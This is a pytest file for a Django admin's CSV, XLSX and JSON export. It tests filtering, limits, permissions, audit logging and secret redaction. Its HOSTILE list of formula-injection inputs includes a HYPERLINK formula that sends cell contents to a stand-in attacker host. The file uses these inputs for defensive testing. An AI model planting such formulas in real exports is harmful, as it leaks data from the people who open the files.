"""Export: what the list shows, all of it, and nothing that a spreadsheet would run."""

import json
from typing import TYPE_CHECKING, Any

import pytest

from entries.admin import EntryAdmin
from entries.models import Entry
from retry.admin.exports.workbook import MAX_CELL
from retry.audit import REFUSED
from retry.models import AuditEvent
from tests.admin.browsing import Browser, text_of
from tests.admin.transfers import EXPORT, csv_rows, exported, texts, xlsx_rows
from tests.conftest import grant
from tests.factories.entries import EntryFactory, SourceFactory

if TYPE_CHECKING:
    from django.contrib.auth.models import User

pytestmark = pytest.mark.django_db

#: Beginnings that one spreadsheet or another runs, or trims until it does.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "''@x",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]
READERS = {"csv": csv_rows, "xlsx": xlsx_rows}


@pytest.fixture
def exporter(operator: "User") -> Browser:
    return Browser(grant(operator, "entries.export_entry"))


def test_all_pages_of_what_is_filtered_and_searched(
    exporter: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(EntryAdmin, "list_per_page", 2)
    source = SourceFactory.create(slug="news")
    wanted = [
        EntryFactory.create(failed=True, source=source, title=f"Café {n}", external_id=f"id {n}")
        for n in range(5)
    ]
    EntryFactory.create(failed=True, source=source, title="Tea")
    EntryFactory.create(succeeded=True, source=source, title="Café 9")
    EntryFactory.create(failed=True, title="Café 8")
    query = "?status=failed&source=news&q=caf%C3%A9"
    shown = text_of(exporter.read(f"/admin/entries/entry/{query}"))
    assert "Export what is shown" in shown
    page = text_of(exporter.read(f"{EXPORT}{query}"))
    assert "5 entries" in page
    assert "status failed, source news" in page
    for name, reader in READERS.items():
        rows = reader(exported(exporter, name, query))
        assert [int(row["id"]) for row in rows] == [e.pk for e in reversed(wanted)], "as listed"
        assert (rows[0]["title"], rows[0]["source"], rows[0]["status"]) == (
            "Café 4",
            "news",
            "failed",
        )
        assert json.loads(rows[0]["payload"]) == wanted[4].payload
        assert rows[0]["error_class"] == "TransientError"
    rows = json.loads(exported(exporter, "json", query))
    assert [row["payload"] for row in rows] == [e.payload for e in reversed(wanted)]
    assert rows[0]["result"] is None
    events = AuditEvent.objects.filter(verb="export", actor_label="operator", channel="admin")
    assert [(e.count, e.after and e.after["format"]) for e in events.order_by("id")] == [
        (5, "csv"),
        (5, "xlsx"),
        (5, "json"),
    ]
    event = events.first()
    assert event is not None
    assert event.after is not None
    assert "source news" in event.after["selection"]


@pytest.mark.parametrize("name", READERS)
def test_nothing_in_any_column_begins_like_a_formula(exporter: Browser, name: str) -> None:
    for number, text in enumerate(HOSTILE):
        EntryFactory.create(
            failed=True,
            external_id=f"{text} {number}",
            title=text,
            error_class=text,
            error_message=text,
            payload={text: text},
        )
    Entry.objects.filter(title="=1+1").update(kind="=kind")
    source = SourceFactory.create(slug="-news")
    Entry.objects.filter(title="+1+1").update(source=source)
    rows = READERS[name](exported(exporter, name))
    assert len(rows) == len(HOSTILE)
    dangerous = [
        text for text in texts(rows) if text.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")
    ]
    assert dangerous == []
    assert [text for text in texts(rows) if text[:1] in {"\t", "\r", "\n"}] == []
    assert {"'=1+1", "'=kind", "'-news", "''=1", "'''@x"} <= texts(rows)


def test_json_is_exact(exporter: Browser) -> None:
    for text in HOSTILE:
        EntryFactory.create(title=text, payload={text: [text]})
    rows = json.loads(exported(exporter, "json"))
    assert [row["title"] for row in reversed(rows)] == HOSTILE
    assert [row["payload"] for row in reversed(rows)] == [{text: [text]} for text in HOSTILE]


def test_what_a_cell_cannot_hold_is_cut_and_says_so(exporter: Browser) -> None:
    EntryFactory.create(title="bell \x07", payload={"a": "x" * 50_000})
    (row,) = xlsx_rows(exported(exporter, "xlsx"))
    assert row["title"] == "bell \ufffd"
    assert len(row["payload"]) == MAX_CELL
    assert row["payload"].endswith("… cut: a cell holds no more")
    (row,) = csv_rows(exported(exporter, "csv"))
    assert json.loads(row["payload"]) == {"a": "x" * 50_000}


def test_too_many_are_refused_with_a_way_out(exporter: Browser, settings: Any) -> None:
    settings.REDRIVE_EXPORT_LIMIT = 3
    EntryFactory.create_batch(4)
    answer = exporter.post(EXPORT, {"format": "csv"})
    assert answer.status_code == 200
    said = text_of(answer.content.decode())
    assert "A file holds at most 3 entries" in said
    assert "narrow the list" in said
    assert not AuditEvent.objects.exists()
    Entry.objects.order_by("id").first().delete()  # type: ignore[union-attr]
    assert len(csv_rows(exported(exporter, "csv"))) == 3


def test_nothing_found_is_nothing_to_export(exporter: Browser) -> None:
    assert "Nothing to export" in exporter.read(f"{EXPORT}?status=failed")
    assert json.loads(exported(exporter, "json")) == []
    assert csv_rows(exported(exporter, "csv")) == []
    assert xlsx_rows(exported(exporter, "xlsx")) == []


@pytest.mark.parametrize("given", ["", "exe", "0", "../csv"])
def test_an_unknown_format_shows_the_page_again(exporter: Browser, given: str) -> None:
    EntryFactory.create()
    answer = exporter.post(EXPORT, {"format": given, "export_items": "1"})
    assert answer["Content-Type"].startswith("text/html")
    assert not AuditEvent.objects.exists()


@pytest.mark.parametrize(
    "query", ["?payload__regex=x", "?nonsense=1", "?status__in=failed", "?fingerprint=%00"]
)
def test_a_filter_that_the_list_does_not_know(exporter: Browser, query: str) -> None:
    EntryFactory.create()
    assert exporter.get(f"/admin/entries/entry/{query}").status_code == 400, "as the list itself"
    assert exporter.post(f"{EXPORT}{query}", {"format": "csv"}).status_code == 400
    assert not AuditEvent.objects.exists()


def test_filters_that_are_no_operations_filters_are_noted_as_they_stand(exporter: Browser) -> None:
    EntryFactory.create(source=None)
    EntryFactory.create(source=SourceFactory.create())
    assert len(csv_rows(exported(exporter, "csv", "?source="))) == 1
    event = AuditEvent.objects.get()
    assert event.after == {"format": "csv", "selection": "source="}


@pytest.mark.parametrize(
    "query",
    [
        "payload.token=hunter2",
        "payload.token=hunter2&source=",
        "source=&payload.a.api_key=%5B%22hunter2%22%5D",
        "source=&payload.url=https%3A%2F%2Fme%3Ahunter2%40news.example%2F",
        "payload.token=hunter2&payload.token=hunter2",
    ],
)
def test_secrets_in_filters_are_noted_nowhere(exporter: Browser, query: str) -> None:
    """Not all who read the audit may see payloads."""
    for source in (None, SourceFactory.create()):
        payload = {"token": "hunter2", "a": {"api_key": "hunter2"}, "url": "https://me:hunter2@b/"}
        EntryFactory.create(source=source, payload=payload)
    exported(exporter, "csv", f"?{query}")
    noted = json.dumps(AuditEvent.objects.get().after)
    assert "hunter2" not in noted
    assert "***" in noted
    assert "hunter2" not in text_of(exporter.read(f"{EXPORT}?{query}"))


def test_whoever_may_only_look_does_not_take_away(reader: "User") -> None:
    EntryFactory.create()
    browser = Browser(reader)
    assert "Export" not in text_of(browser.read("/admin/entries/entry/"))
    assert browser.get(EXPORT).status_code == 403
    assert browser.post(EXPORT, {"format": "csv"}).status_code == 403
    assert not AuditEvent.objects.exclude(verb=REFUSED).exists()


def test_a_permission_to_export_is_none_to_see(powerless: "User") -> None:
    EntryFactory.create()
    browser = Browser(grant(powerless, "entries.export_entry"))
    assert browser.post(EXPORT, {"format": "csv"}).status_code == 403
